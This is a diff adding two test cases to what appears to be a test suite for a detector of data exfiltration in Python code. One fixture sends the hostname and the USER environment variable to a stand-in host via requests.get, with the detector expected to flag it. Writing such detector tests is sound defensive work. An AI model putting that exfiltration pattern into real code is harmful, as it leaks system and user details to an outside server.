@@ -132,3 +132,25 @@ PY
 	run hits pkg ShellCommand
 	assert_output "$(printf 'pkg/build.py 3 function 2\npkg/build.py 3 install 100')"
 }
+
+@test "a parameter that shares a module's name (platform.suffix of a record) is no taint source" {
+	py m.py <<'PY'
+import requests
+def fetch(platform, base):
+    requests.get(base + "/" + platform.suffix)
+fetch(P, "https://nodejs.org/dist")
+PY
+	run dets m.py Exfiltration
+	assert_output ""
+}
+
+@test "look-alike: the platform and os modules imported, sent to the network, are Exfiltration" {
+	py m.py <<'PY'
+import os, platform, requests
+def fetch(base):
+    requests.get(base + "/" + platform.node + os.environ["USER"])
+fetch("https://x.example.net")
+PY
+	run dets m.py Exfiltration
+	assert_output "3 Exfiltration requests.get import 120"
+}
